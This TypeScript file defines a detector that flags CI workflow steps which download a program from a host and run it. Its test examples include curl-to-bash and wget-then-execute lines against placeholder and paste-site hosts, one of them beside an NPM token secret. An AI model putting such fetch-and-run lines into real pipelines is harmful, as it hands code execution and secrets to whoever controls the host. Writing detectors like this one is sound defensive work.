import { z } from "zod";
import { defineDetector, type Signal, type Strength } from "../../model/detector.ts";
import type { CommitEvidence } from "../../model/evidence.ts";
import { aJob, aStep, aWorkflow, aWorkflowCommit } from "../../model/workflow-examples.ts";
import { clip } from "../../text/clip.ts";
import { type FetchedRun, fetchedRuns } from "../../text/fetched-run.ts";
import { reachOf } from "../../text/job-reach.ts";
import { isKnownInstaller, kindOfUrl } from "../../text/url.ts";
import { knownLines, type WorkflowChange, workflowChanges } from "../../text/workflow-change.ts";

/** Hosts told of one commit: more say no more. */
const MOST_HOSTS = 20;

const PIPE = ["| ba", "sh"].join("");
const secret = (name: string): string => ["$", `{{ secrets.${name} }}`].join("");

export default defineDetector({
  id: "workflow-download-and-execute",
  title: "A workflow runs what a stranger's host hands out",
  family: "workflows",
  axis: "attack",
  group: "ci",
  stage: "stable",
  since: "0.1.0",
  rationale:
    "A step that fetches a program and runs it does whatever the owner of the host decides, on every run anew, with all that the job may touch; no commit and no review shows it.",
  falsePositives: [
    "An installer of a tool that we do not know, as its own manual says",
    "A script on a server of the project's own",
  ],
  remedy:
    "Look at what the address hands out, and who owns it. Take the program from a release whose digest is checked, or into the repository.",
  references: ["CWE-494", "CWE-829", "ATT&CK T1105 Ingress Tool Transfer", "OWASP CICD-SEC-3", "Codecov 2021"],
  needs: ["diff", "content", "baseline"],
  options: z.strictObject({
    knownHosts: z.array(z.string().max(253)).max(200).default([]).describe("hosts that steps may run programs from"),
  }),
  examples: {
    flags: [
      {
        name: "a stranger's script, piped into the shell",
        commit: aWorkflowCommit(
          aWorkflow({ steps: [aStep({ run: `curl -fsSL https://quiet.example.net/prepare.sh ${PIPE}` })] }),
        ),
      },
      {
        name: "fetched to a file that is started, from a page for pastes, beside a secret",
        commit: aWorkflowCommit(
          aWorkflow({
            jobs: [aJob({ env: { NPM: secret("NPM_TOKEN") } })],
            steps: [aStep({ run: "wget -O /tmp/x https://paste.rs/abc\nchmod +x /tmp/x\n/tmp/x" })],
          }),
        ),
      },
      {
        name: "the step of a composite action",
        commit: aWorkflowCommit(
          aWorkflow({
            kind: "action",
            triggers: {},
            jobs: [],
            steps: [aStep({ job: "", run: 'eval "$(curl -s https://quiet.example.net/c)"' })],
          }),
          null,
          { path: "action.yml" },
        ),
      },
    ],
    passes: [
      {
        name: "data that is read, and an archive that is unpacked",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({ run: 'curl -s https://quiet.example.net/v.json | python3 -c "import json, sys; print(1)"' }),
              aStep({ run: "curl -L https://quiet.example.net/data.tgz | tar xz" }),
            ],
          }),
        ),
      },
      {
        name: "a program whose digest is checked",
        commit: aWorkflowCommit(
          aWorkflow({
            steps: [
              aStep({
                run: `curl -sSLo tool https://quiet.example.net/tool\necho "${"a1".repeat(32)}  tool" | sha256sum -c -\nchmod +x tool\n./tool`,
              }),
            ],
          }),
        ),
      },
      {
        name: "the same line as before, in another job",
        commit: aWorkflowCommit(
          aWorkflow({
            jobs: [aJob({ id: "lint" })],
            steps: [aStep({ job: "lint", run: `curl -s https://quiet.example.net/i.sh ${PIPE}` })],
          }),
          aWorkflow({ steps: [aStep({ run: `curl -s https://quiet.example.net/i.sh ${PIPE}` })] }),
        ),
      },
    ],
  },
  detect(commit, { knownHosts }) {
    const changes = workflowChanges(commit);
    const earlier = new Set(
      commit.files.flatMap(({ facts }) =>
        facts.workflow?.before ? runsOf(facts.workflow.before).map(({ host }) => host) : [],
      ),
    );
    const seen = new Set<string | null>();
    return changes.flatMap((change): Signal[] =>
      runsOf(change.after).flatMap((run): Signal[] => {
        if (seen.has(run.host) || seen.size >= MOST_HOSTS || !isNew(run, commit)) return [];
        seen.add(run.host);
        const known =
          run.host !== null &&
          (earlier.has(run.host) ||
            knownHosts.includes(run.host) ||
            isKnownInstaller(run.host) ||
            commit.baseline.repository.hosts.includes(run.host));
        const kind = run.host === null ? null : kindOfUrl({ url: run.url ?? run.host, host: run.host });
        const reach = reachOf(change.after, run.job);
        return [
          {
            strength: gradeRun(run, known, kind !== null, reach !== null),
            confidence: known ? 0.5 : 1,
            because: `a step runs what ${run.host === null ? "an address put together at run time" : clip(run.host, 80)} hands out${reach === null ? "" : `, ${clip(reach, 80)}`}`,
            path: change.file.path,
            ...(run.at === null ? {} : { line: run.at }),
            facts: { host: run.host, known, kind, by: run.by },
            matched: run.command.text,
          },
        ];
      }),
    );
  },
});

interface JobRun extends FetchedRun {
  readonly job: string;
  /** Line of the file, where known. */
  readonly at: number | null;
}

function runsOf(facts: WorkflowChange["after"]): JobRun[] {
  const jobs = new Set(facts.steps.map(({ job }) => job));
  return [...jobs].flatMap((job): JobRun[] => {
    const steps = facts.steps.filter((step) => step.job === job);
    const env = [facts.env, ...facts.jobs.filter(({ id }) => id === job).map((one) => one.env)];
    const values = new Map([...env, ...steps.map((step) => step.env)].flatMap((one) => Object.entries(one)));
    return fetchedRuns(
      steps.map(({ run }) => run ?? ""),
      values,
    ).flatMap((runs, i) => {
      const from = steps[i]?.runLine ?? null;
      return runs.map((run) => ({ ...run, job, at: from === null ? null : from + run.command.line }));
    });
  });
}

/** Some line of what fetches or what starts stood in no workflow of the commit before. */
function isNew({ fetch, command }: FetchedRun, commit: CommitEvidence): boolean {
  const lines = knownLines(commit);
  return `${fetch.text}\n${command.text}`.split("\n").some((line) => line.trim() !== "" && !lines.has(line.trim()));
}

function gradeRun({ host, by }: FetchedRun, known: boolean, isForThieves: boolean, hasReach: boolean): Strength {
  if (isForThieves) return hasReach ? "decisive" : "strong";
  if (known) return "weak";
  return host === null || by === "file" ? "medium" : "strong";
}
